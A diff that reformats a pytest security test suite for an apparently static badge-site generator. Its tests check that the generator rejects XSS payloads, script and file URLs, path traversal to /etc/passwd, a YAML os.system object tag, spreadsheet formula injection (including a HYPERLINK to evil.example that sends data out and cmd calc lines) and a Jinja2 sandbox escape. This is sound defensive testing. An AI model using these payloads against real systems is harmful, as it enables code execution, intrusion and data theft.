@@ -66,11 +66,14 @@ def build_then_break(run, site: Path, files: dict, *, before_break=None):
     return result
 
 
-def recipient(extra: str = "", *, name: str = "Ann Example", email: str = "ann@example.com",
-              award_id: str = "ann-first-1") -> str:
+def recipient(
+    extra: str = "", *, name: str = "Ann Example", email: str = "ann@example.com", award_id: str = "ann-first-1"
+) -> str:
     """recipients/ann.yaml text with one award; ``extra`` is indented under the award."""
-    return (f"name: {json.dumps(name)}\nemail: {json.dumps(email)}\nawards:\n  - id: {json.dumps(award_id)}\n"
-            f"    badge: first-badge\n    issued_on: 2026-01-15\n" + textwrap.indent(textwrap.dedent(extra), "    "))
+    return (
+        f"name: {json.dumps(name)}\nemail: {json.dumps(email)}\nawards:\n  - id: {json.dumps(award_id)}\n"
+        f"    badge: first-badge\n    issued_on: 2026-01-15\n" + textwrap.indent(textwrap.dedent(extra), "    ")
+    )
 
 
 def html_files(out: Path) -> dict[str, str]:
@@ -168,8 +171,15 @@ def test_yaml_number_too_long_for_python_is_a_located_error(minimal_site, run):
 @pytest.mark.parametrize("char", ["\x0b", "\x0c", "\x00", "\x1b", "\x7f"], ids=["VT", "FF", "NUL", "ESC", "DEL"])
 def test_control_character_pasted_from_word_is_a_located_error(minimal_site, run, char):
     # Word's manual line break (Shift+Enter) pastes as U+000B, a page break as U+000C.
-    result = build_then_break(run, minimal_site, {"recipients/ann.yaml": recipient(name=f"Ann{char}Example")
-                                                  .replace(json.dumps(f"Ann{char}Example"), f"Ann{char}Example")})
+    result = build_then_break(
+        run,
+        minimal_site,
+        {
+            "recipients/ann.yaml": recipient(name=f"Ann{char}Example").replace(
+                json.dumps(f"Ann{char}Example"), f"Ann{char}Example"
+            )
+        },
+    )
     assert_refused(result, "recipients/ann.yaml", "control character")
 
 
@@ -206,8 +216,17 @@ def test_symlinked_site_yaml_is_refused(minimal_site, run, tmp_path):
     assert_refused(result, "site_src/site.yaml", "symbolic link")
 
 
-@pytest.mark.parametrize("image", ["../../etc/passwd", "../../../../../../etc/passwd", "/etc/passwd",
-                                   "assets/../../recipients/ann.yaml", "../outside.svg", "/etc/hostname.svg"])
+@pytest.mark.parametrize(
+    "image",
+    [
+        "../../etc/passwd",
+        "../../../../../../etc/passwd",
+        "/etc/passwd",
+        "assets/../../recipients/ann.yaml",
+        "../outside.svg",
+        "/etc/hostname.svg",
+    ],
+)
 def test_badge_image_path_leaving_site_src_is_refused(minimal_site, run, image):
     (minimal_site / "outside.svg").write_bytes(MINIMAL["site_src/assets/badge.svg"])
     badge = f"name: First Badge\ndescription: d\nimage: {json.dumps(image)}\ncriteria: c\n"
@@ -258,8 +277,11 @@ BAD_FILE_NAMES = ["First Badge", "Ann", "-ann", ".ann", "ann_b", "\u0430nn", "an
 @pytest.mark.parametrize("folder", ["badges", "recipients"])
 @pytest.mark.parametrize("stem", BAD_FILE_NAMES, ids=lambda s: s.encode("unicode_escape").decode())
 def test_source_file_names_that_are_not_slugs_are_refused(minimal_site, run, folder, stem):
-    content = MINIMAL["badges/first-badge.yaml"] if folder == "badges" else recipient(award_id="zed-first-1",
-                                                                                    email="zed@example.com")
+    content = (
+        MINIMAL["badges/first-badge.yaml"]
+        if folder == "badges"
+        else recipient(award_id="zed-first-1", email="zed@example.com")
+    )
     write_site(minimal_site, {f"{folder}/{stem}.yaml": content})
     result = run("check", "--source", str(minimal_site), "--today", TODAY)
     assert_refused(result, f"{folder}/{stem}.yaml", "not a valid slug")
@@ -268,16 +290,35 @@ def test_source_file_names_that_are_not_slugs_are_refused(minimal_site, run, fol
 @pytest.mark.parametrize("folder", ["badges", "recipients"])
 def test_source_file_name_with_a_trailing_newline_is_refused(minimal_site, run, folder):
     # SLUG_RE ends in '$', which also matches before a final '\n': "ann\n" passes as a slug.
-    content = MINIMAL["badges/first-badge.yaml"] if folder == "badges" else recipient(award_id="zed-first-1",
-                                                                                    email="zed@example.com")
+    content = (
+        MINIMAL["badges/first-badge.yaml"]
+        if folder == "badges"
+        else recipient(award_id="zed-first-1", email="zed@example.com")
+    )
     write_site(minimal_site, {f"{folder}/zed\n.yaml": content})
     result = run("check", "--source", str(minimal_site), "--today", TODAY)
     assert_refused(result, f"{folder}/zed\n.yaml", "not a valid slug")
 
 
-BAD_AWARD_IDS = ["../../x", "..", ".", "a/b", "abcd/../../x", "ABCD-1", "Ann-first-1", "\u0430nn-first-1",
-                 "ａｎｎ-first-1", "ann first 1", "ann_first_1", "ann%2ffirst", "-ann-first", "abc", "x" * 65,
-                 "ann-first-1\u200b", "ann-first-1\u0000"]
+BAD_AWARD_IDS = [
+    "../../x",
+    "..",
+    ".",
+    "a/b",
+    "abcd/../../x",
+    "ABCD-1",
+    "Ann-first-1",
+    "\u0430nn-first-1",
+    "ａｎｎ-first-1",
+    "ann first 1",
+    "ann_first_1",
+    "ann%2ffirst",
+    "-ann-first",
+    "abc",
+    "x" * 65,
+    "ann-first-1\u200b",
+    "ann-first-1\u0000",
+]
 
 
 @pytest.mark.parametrize("award_id", BAD_AWARD_IDS, ids=lambda s: s.encode("unicode_escape").decode()[:20])
@@ -317,7 +358,7 @@ def test_two_earners_cannot_share_an_award_id(minimal_site, run):
 
 PAYLOADS = [
     "<script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "</script><script>alert(1)</script>",
     "{{ 7*7 }}{% raw %}",
     "'><svg/onload=alert(1)> ]]><script>alert(1)</script><![CDATA[",
@@ -415,9 +456,11 @@ def xss_site(root: Path, payload: str) -> Path:
     """A site with ``payload`` in every text field that reaches a page."""
     single = json.dumps(payload)
     url_payload = json.dumps("https://example.org/x?q=" + quote(payload, safe="'/()=;"))
-    return write_site(root, {
-        **MINIMAL,
-        "site_src/site.yaml": f"""
+    return write_site(
+        root,
+        {
+            **MINIMAL,
+            "site_src/site.yaml": f"""
             base_url: https://badges.example.org/
             title: {single}
             footer: {single}
@@ -428,7 +471,7 @@ def xss_site(root: Path, payload: str) -> Path:
               description: {single}
               telephone: "+44 1642 000000"
         """,
-        "badges/first-badge.yaml": f"""
+            "badges/first-badge.yaml": f"""
             name: {single}
             description: {single}
             image: assets/badge.svg
@@ -441,7 +484,7 @@ def xss_site(root: Path, payload: str) -> Path:
                 code: {json.dumps(payload[:100])}
                 description: {single}
         """,
-        "recipients/ann.yaml": f"""
+            "recipients/ann.yaml": f"""
             name: {single}
             email: ann@example.com
             awards:
@@ -461,8 +504,9 @@ def xss_site(root: Path, payload: str) -> Path:
                   on: 2026-02-01
                   reason: {single}
         """,
-        "site_src/pages/evil.md": f"---\ntitle: {single}\ndescription: {single}\n---\n{payload}\n\n{MARKDOWN_ATTACKS}",
-    })
+            "site_src/pages/evil.md": f"---\ntitle: {single}\ndescription: {single}\n---\n{payload}\n\n{MARKDOWN_ATTACKS}",
+        },
+    )
 
 
 @pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@@ -503,18 +547,35 @@ def test_markdown_links_are_limited_to_web_and_mail(tmp_path, run):
         assert "js" in text and "<iframe" in text and "<script>alert('md')</script>" in text, rel
 
 
-@pytest.mark.parametrize("url", ["javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)",
-                                 "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
-                                 "https:javascript:alert(1)", "//evil.example/x", "ftp://example.org/x",
-                                 "file:///etc/passwd", "java\tscript:alert(1)", "https://exa mple.org/"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "JavaScript:alert(1)",
+        " javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "vbscript:msgbox(1)",
+        "https:javascript:alert(1)",
+        "//evil.example/x",
+        "ftp://example.org/x",
+        "file:///etc/passwd",
+        "java\tscript:alert(1)",
+        "https://exa mple.org/",
+    ],
+)
 @pytest.mark.parametrize("where", ["evidence", "alignment"])
 def test_evidence_and_alignment_urls_must_be_http_or_https(minimal_site, run, url, where):
     if where == "evidence":
         write_site(minimal_site, {"recipients/ann.yaml": recipient(f"evidence:\n  - url: {json.dumps(url)}\n")})
         rel = "recipients/ann.yaml"
     else:
-        write_site(minimal_site, {"badges/first-badge.yaml": textwrap.dedent(MINIMAL["badges/first-badge.yaml"])
-                                  + f"alignment:\n  - name: Role\n    url: {json.dumps(url)}\n"})
+        write_site(
+            minimal_site,
+            {
+                "badges/first-badge.yaml": textwrap.dedent(MINIMAL["badges/first-badge.yaml"])
+                + f"alignment:\n  - name: Role\n    url: {json.dumps(url)}\n"
+            },
+        )
         rel = "badges/first-badge.yaml"
     result = run("check", "--source", str(minimal_site), "--today", TODAY)
     assert_refused(result, rel, "bad-url")
@@ -524,8 +585,11 @@ def test_evidence_and_alignment_urls_must_be_http_or_https(minimal_site, run, ur
 def test_issuer_url_and_logo_cannot_carry_script(minimal_site, run, field):
     value = "javascript:alert(1)" if field == "url" else "javascript:alert(1).svg"
     site_yaml = textwrap.dedent(MINIMAL["site_src/site.yaml"])
-    site_yaml = (site_yaml.replace("url: https://example.org", f"url: {json.dumps(value)}") if field == "url"
-                 else site_yaml + f"  image: {json.dumps(value)}\n")
+    site_yaml = (
+        site_yaml.replace("url: https://example.org", f"url: {json.dumps(value)}")
+        if field == "url"
+        else site_yaml + f"  image: {json.dumps(value)}\n"
+    )
     write_site(minimal_site, {"site_src/site.yaml": site_yaml})
     result = run("check", "--source", str(minimal_site), "--today", TODAY)
     assert_refused(result, "site_src/site.yaml")
@@ -554,8 +618,9 @@ def test_badge_artwork_with_script_is_refused(minimal_site, run):
 
 def test_issuer_logo_with_script_is_refused(minimal_site, run):
     site_yaml = textwrap.dedent(MINIMAL["site_src/site.yaml"]) + "  image: assets/logo.svg\n"
-    result = build_then_break(run, minimal_site, {"site_src/site.yaml": site_yaml,
-                                                  "site_src/assets/logo.svg": HOSTILE_ARTWORK})
+    result = build_then_break(
+        run, minimal_site, {"site_src/site.yaml": site_yaml, "site_src/assets/logo.svg": HOSTILE_ARTWORK}
+    )
     assert_refused(result, "site_src/site.yaml", "unsafe-svg")
 
 
@@ -603,9 +668,13 @@ def test_build_makes_no_network_connection(tmp_path):
     site = copy_example(tmp_path / "site")
     log = tmp_path / "network-attempts.log"
     for command in (["check"], ["build"]):
-        proc = subprocess.run([sys.executable, "-c", NO_NETWORK, str(log), *command, "--source", str(site),
-                               "--today", TODAY], capture_output=True, text=True, timeout=300,
-                              env=_same_badgekiln_env())
+        proc = subprocess.run(
+            [sys.executable, "-c", NO_NETWORK, str(log), *command, "--source", str(site), "--today", TODAY],
+            capture_output=True,
+            text=True,
+            timeout=300,
+            env=_same_badgekiln_env(),
+        )
         assert proc.returncode == 0, proc.stderr
         assert "Traceback" not in proc.stderr
         assert not log.exists(), log.read_text()
@@ -615,10 +684,12 @@ def test_build_makes_no_network_connection(tmp_path):
 def test_the_probe_would_notice_a_connection(tmp_path):
     # The guard above is only worth something if it really catches a connection attempt.
     log = tmp_path / "network-attempts.log"
-    code = NO_NETWORK.replace("from badgekiln.cli import main\nmain(sys.argv[2:])",
-                              "import urllib.request\ntry:\n"
-                              "    urllib.request.urlopen('http://192.0.2.1/', timeout=1)\n"
-                              "except OSError:\n    pass\n")
+    code = NO_NETWORK.replace(
+        "from badgekiln.cli import main\nmain(sys.argv[2:])",
+        "import urllib.request\ntry:\n"
+        "    urllib.request.urlopen('http://192.0.2.1/', timeout=1)\n"
+        "except OSError:\n    pass\n",
+    )
     subprocess.run([sys.executable, "-c", code, str(log)], capture_output=True, text=True, timeout=60)
     assert log.exists() and log.read_text().strip()
 
@@ -627,9 +698,14 @@ def test_the_probe_would_notice_a_connection(tmp_path):
 def test_output_folder_that_is_not_ours_is_refused(minimal_site, run, tmp_path, where):
     foreign = tmp_path / "my-documents"
     write_site(foreign, {"thesis.txt": "five years of work\n"})
-    target = {"source": minimal_site, "parent": tmp_path, "foreign": foreign,
-              "recipients": minimal_site / "recipients", "site_src": minimal_site / "site_src",
-              "home-like": tmp_path / "home"}[where]
+    target = {
+        "source": minimal_site,
+        "parent": tmp_path,
+        "foreign": foreign,
+        "recipients": minimal_site / "recipients",
+        "site_src": minimal_site / "site_src",
+        "home-like": tmp_path / "home",
+    }[where]
     if where == "home-like":
         write_site(target, {".bashrc": "alias ls='ls -F'\n", ".git/config": "[core]\n"})
     before = snapshot(tmp_path)
@@ -641,19 +717,30 @@ def test_output_folder_that_is_not_ours_is_refused(minimal_site, run, tmp_path, 
 
 
 def test_a_build_writes_only_output_cache_pinned_ids_and_the_ledger(minimal_site, run, tmp_path):
-    write_site(minimal_site, {"recipients/ann.yaml": recipient().replace('  - id: "ann-first-1"\n    badge',
-                                                                         "  - badge"),
-                              "recipients/bob.yaml": recipient(name="Bob", email="bob@example.com",
-                                                               award_id="bob-first-1")})
+    write_site(
+        minimal_site,
+        {
+            "recipients/ann.yaml": recipient().replace('  - id: "ann-first-1"\n    badge', "  - badge"),
+            "recipients/bob.yaml": recipient(name="Bob", email="bob@example.com", award_id="bob-first-1"),
+        },
+    )
     build(run, minimal_site)  # a first build, so that the second one replaces an existing output/
-    write_site(minimal_site, {"recipients/cy.yaml": recipient(name="Cy", email="cy@example.com").replace(
-        '  - id: "ann-first-1"\n    badge', "  - badge")})
+    write_site(
+        minimal_site,
+        {
+            "recipients/cy.yaml": recipient(name="Cy", email="cy@example.com").replace(
+                '  - id: "ann-first-1"\n    badge', "  - badge"
+            )
+        },
+    )
     before = snapshot(tmp_path)
     build(run, minimal_site)
     changed = changed_paths(before, snapshot(tmp_path))
     # .badgekiln/ is the incremental build cache (git-ignored; badgekiln.engine.cache), output/ links into it.
-    allowed = re.compile(r"^site/(?:output(?:/.*)?|\.badgekiln(?:/.*)?|recipients/[a-z0-9-]+\.yaml"
-                         r"|site_src/awards\.lock)$")
+    allowed = re.compile(
+        r"^site/(?:output(?:/.*)?|\.badgekiln(?:/.*)?|recipients/[a-z0-9-]+\.yaml"
+        r"|site_src/awards\.lock)$"
+    )
     assert [p for p in changed if not allowed.match(p)] == []
     assert "site/recipients/cy.yaml" in changed and "site/site_src/awards.lock" in changed
     assert "site/recipients/bob.yaml" not in changed and "site/recipients/ann.yaml" not in changed
@@ -685,8 +772,12 @@ def test_a_build_cache_committed_to_git_is_not_trusted(minimal_site, run):
         pytest.skip("git is not installed")
 
     def git(*args: str) -> None:
-        subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(minimal_site), *args],
-                       check=True, capture_output=True, timeout=60)
+        subprocess.run(
+            ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(minimal_site), *args],
+            check=True,
+            capture_output=True,
+            timeout=60,
+        )
 
     git("init", "-q")
     build(run, minimal_site)
@@ -705,16 +796,19 @@ def test_a_build_cache_committed_to_git_is_not_trusted(minimal_site, run):
 # 5. Keys: the private key never reaches the repository or the published site
 # ============================================================================================
 
+
 def test_private_key_committed_to_site_src_keys_is_refused(minimal_site, run):
     key = ed25519.Ed25519PrivateKey.generate().private_bytes(
-        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+    )
     result = build_then_break(run, minimal_site, {"site_src/keys/oops.pem": key})
     assert_refused(result, "site_src/keys/oops.pem", "PRIVATE key")
 
 
 def test_private_key_in_a_key_record_is_refused(minimal_site, run):
     key = rsa.generate_private_key(public_exponent=65537, key_size=2048).private_bytes(
-        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption())
+        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
+    )
     record = "algorithm: RS256\ncreated: 2026-01-01\npublic_key: |\n" + textwrap.indent(key.decode(), "  ")
     result = build_then_break(run, minimal_site, {"site_src/keys/2026-01-01-rsa-abcdef.yaml": record})
     assert_refused(result, "site_src/keys/2026-01-01-rsa-abcdef.yaml", "PRIVATE key")
@@ -725,8 +819,11 @@ def test_private_keys_folder_inside_the_repo_or_output_is_refused(minimal_site, 
     out = tmp_path / "public"
     build(run, minimal_site, "--output", str(out))
     before = tree_bytes(out)
-    folder = {"source": minimal_site / "private", "site_src": minimal_site / "site_src" / "keys" / "private",
-              "output": out / "private"}[inside]
+    folder = {
+        "source": minimal_site / "private",
+        "site_src": minimal_site / "site_src" / "keys" / "private",
+        "output": out / "private",
+    }[inside]
     folder.mkdir(parents=True)
     monkeypatch.setenv("BADGEKILN_KEYS_DIR", str(folder))
     if inside != "output":  # 'keys generate' knows the sources, not where a later build will write
@@ -780,14 +877,23 @@ def test_real_private_keys_never_reach_output(minimal_site, run, monkeypatch, tm
 
 @pytest.mark.parametrize("where", ["narrative", "criteria", "asset", "page"])
 def test_pem_private_key_pasted_into_sources_is_not_published(minimal_site, run, where):
-    pem = ed25519.Ed25519PrivateKey.generate().private_bytes(
-        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()).decode()
+    pem = (
+        ed25519.Ed25519PrivateKey.generate()
+        .private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+        .decode()
+    )
     files = {
         "narrative": {"recipients/ann.yaml": recipient(f"narrative: {json.dumps('Key: ' + pem)}\n")},
-        "criteria": {"badges/first-badge.yaml": textwrap.dedent(MINIMAL["badges/first-badge.yaml"]).replace(
-            "criteria: Did the thing.", f"criteria: {json.dumps(pem)}")},
-        "asset": {"site_src/assets/notes.svg": MINIMAL["site_src/assets/badge.svg"].replace(
-            b"</svg>", b"<desc>" + pem.encode() + b"</desc></svg>")},
+        "criteria": {
+            "badges/first-badge.yaml": textwrap.dedent(MINIMAL["badges/first-badge.yaml"]).replace(
+                "criteria: Did the thing.", f"criteria: {json.dumps(pem)}"
+            )
+        },
+        "asset": {
+            "site_src/assets/notes.svg": MINIMAL["site_src/assets/badge.svg"].replace(
+                b"</svg>", b"<desc>" + pem.encode() + b"</desc></svg>"
+            )
+        },
         "page": {"site_src/pages/keys.md": f"---\ntitle: Keys\n---\n```\n{pem}```\n"},
     }[where]
     result = build_then_break(run, minimal_site, files)
@@ -805,15 +911,25 @@ EMAIL = "Ann.Example+Badges@Example.CO.UK"
 def _email_forms(email: str) -> list[bytes]:
     forms = set()
     for variant in (email, email.lower(), email.upper()):
-        forms |= {variant, quote(variant, safe=""), quote(variant), quote_plus(variant),
-                  variant.replace("@", "&#64;"), variant.replace("@", "&#x40;"), variant.replace("@", "\\u0040"),
-                  html.escape(variant), base64.b64encode(variant.encode()).decode().rstrip("=")}
+        forms |= {
+            variant,
+            quote(variant, safe=""),
+            quote(variant),
+            quote_plus(variant),
+            variant.replace("@", "&#64;"),
+            variant.replace("@", "&#x40;"),
+            variant.replace("@", "\\u0040"),
+            html.escape(variant),
+            base64.b64encode(variant.encode()).decode().rstrip("="),
+        }
     return sorted(f.lower().encode() for f in forms)
 
 
 def test_earner_email_never_appears_in_output(minimal_site, run):
-    write_site(minimal_site, {"recipients/ann.yaml": recipient(email=EMAIL) + "  - badge: first-badge\n"
-                                                                              "    issued_on: 2026-02-01\n"})
+    write_site(
+        minimal_site,
+        {"recipients/ann.yaml": recipient(email=EMAIL) + "  - badge: first-badge\n    issued_on: 2026-02-01\n"},
+    )
     build(run, minimal_site)
     local = EMAIL.split("@")[0].lower()
     for rel, content in tree_bytes(minimal_site / "output").items():
@@ -826,8 +942,11 @@ def test_earner_email_never_appears_in_output(minimal_site, run):
 
 @pytest.mark.parametrize("field", ["name", "narrative", "evidence"])
 def test_email_pasted_into_published_text_is_refused(minimal_site, run, field):
-    extra = {"name": "", "narrative": f"narrative: Contact {EMAIL.upper()}\n",
-             "evidence": f"evidence:\n  - narrative: sent to {EMAIL.lower()}\n"}[field]
+    extra = {
+        "name": "",
+        "narrative": f"narrative: Contact {EMAIL.upper()}\n",
+        "evidence": f"evidence:\n  - narrative: sent to {EMAIL.lower()}\n",
+    }[field]
     name = f"Ann <{EMAIL}>" if field == "name" else "Ann Example"
     write_site(minimal_site, {"recipients/ann.yaml": recipient(extra, name=name, email=EMAIL)})
     result = run("check", "--source", str(minimal_site), "--today", TODAY)
@@ -837,6 +956,7 @@ def test_email_pasted_into_published_text_is_refused(minimal_site, run, field):
 # ============================================================================================
 # 7. Content-Security-Policy: the second line of defence
 # ============================================================================================
+
 
 def _headers_rules(text: str) -> dict[str, dict[str, str]]:
     rules: dict[str, dict[str, str]] = {}
@@ -870,8 +990,11 @@ def test_headers_file_sets_a_strict_csp_for_pages_and_svg(minimal_site, run, bas
     csp = _directives(pages["content-security-policy"])
     assert csp["default-src"] == ["'none'"] and csp["script-src"] == ["'self'"]
     assert csp["base-uri"] == ["'none'"] and csp["form-action"] == ["'none'"] and csp["frame-ancestors"] == ["'none'"]
-    assert not any(v in {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"}
-                   for key in ("script-src", "default-src", "style-src") for v in csp.get(key, []))
+    assert not any(
+        v in {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"}
+        for key in ("script-src", "default-src", "style-src")
+        for v in csp.get(key, [])
+    )
     svg = rules[prefix + "*.svg"]
     svg_csp = _directives(svg["content-security-policy"])
     assert svg_csp["default-src"] == ["'none'"] and "script-src" not in svg_csp
@@ -905,7 +1028,7 @@ CSV_NASTY_NAMES = [
     'Mallory", show_name: false, email: "mallory@evil.example',
     "&a *a !!python/object/apply:os.system ['id'] {x: y} # not a comment",
     "Ann: Example - [1] | > ? % @ ` '",
-    "O'Neil \"Junior\" \\ backslash",
+    'O\'Neil "Junior" \\ backslash',
 ]
 
 
@@ -932,18 +1055,33 @@ def test_csv_import_cannot_inject_yaml(minimal_site, run, tmp_path):
     assert run("check", "--source", str(minimal_site), "--today", TODAY).code == 0
 
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?"&C2,"Update your badge")', "+1+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&C2,"Update your badge")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
 
 
-@pytest.mark.parametrize("command", [("export",), ("report", "expiring", "--within", "10y", "--format", "csv")],
-                         ids=["export", "report-expiring"])
+@pytest.mark.parametrize(
+    "command",
+    [("export",), ("report", "expiring", "--within", "10y", "--format", "csv")],
+    ids=["export", "report-expiring"],
+)
 def test_csv_exports_do_not_carry_spreadsheet_formulas(minimal_site, run, command):
     for n, formula in enumerate(FORMULAS):
-        write_site(minimal_site, {f"recipients/f{n}.yaml": recipient(
-            "expires: 2027-01-15\n", name=formula, email=f"f{n}@example.com", award_id=f"f{n}-first-1")})
-    write_site(minimal_site, {"recipients/ann.yaml": recipient(
-        "revoked:\n  on: 2026-02-01\n  reason: " + json.dumps(FORMULAS[0]) + "\n")})
+        write_site(
+            minimal_site,
+            {
+                f"recipients/f{n}.yaml": recipient(
+                    "expires: 2027-01-15\n", name=formula, email=f"f{n}@example.com", award_id=f"f{n}-first-1"
+                )
+            },
+        )
+    write_site(
+        minimal_site,
+        {"recipients/ann.yaml": recipient("revoked:\n  on: 2026-02-01\n  reason: " + json.dumps(FORMULAS[0]) + "\n")},
+    )
     result = run(*command, "--source", str(minimal_site), "--today", TODAY)
     assert result.code == 0, result.err
     import csv
@@ -956,10 +1094,15 @@ def test_csv_exports_do_not_carry_spreadsheet_formulas(minimal_site, run, comman
 
 def test_a_template_override_cannot_reach_python(minimal_site, run):
     """templates/ comes from pull requests too: the Jinja2 environment is sandboxed."""
-    write_site(minimal_site, {"templates/award.html": """
+    write_site(
+        minimal_site,
+        {
+            "templates/award.html": """
         {% extends "!builtin/award.html" %}
         {% block main %}{{ cycler.__init__.__globals__.os.system("touch pwned") }}{% endblock %}
-    """})
+    """
+        },
+    )
     result = run("build", "--source", str(minimal_site), "--today", TODAY)
     assert result.code == 1 and "template error" in result.err
     assert not (minimal_site / "pwned").exists() and not __import__("pathlib").Path("pwned").exists()
